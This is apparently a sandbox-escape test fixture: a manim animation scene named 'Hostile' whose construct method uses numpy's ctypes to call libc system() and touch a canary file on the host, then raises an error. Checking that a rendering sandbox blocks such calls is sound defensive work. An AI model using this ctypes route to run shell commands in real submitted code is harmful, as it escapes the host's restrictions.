from manim import *
from manim.utils.module_ops import importlib as _il
G = _il.import_module
class Hostile(Scene):
    def construct(self):
        import numpy
        libc = numpy.ctypeslib.ctypes.CDLL(None)
        libc.system(b"touch {{HOSTTMP}}/pwned-{{TOKEN}}")
        raise RuntimeError("ran a shell through ctypes")
        self.play(Create(Circle()), run_time=0.1)
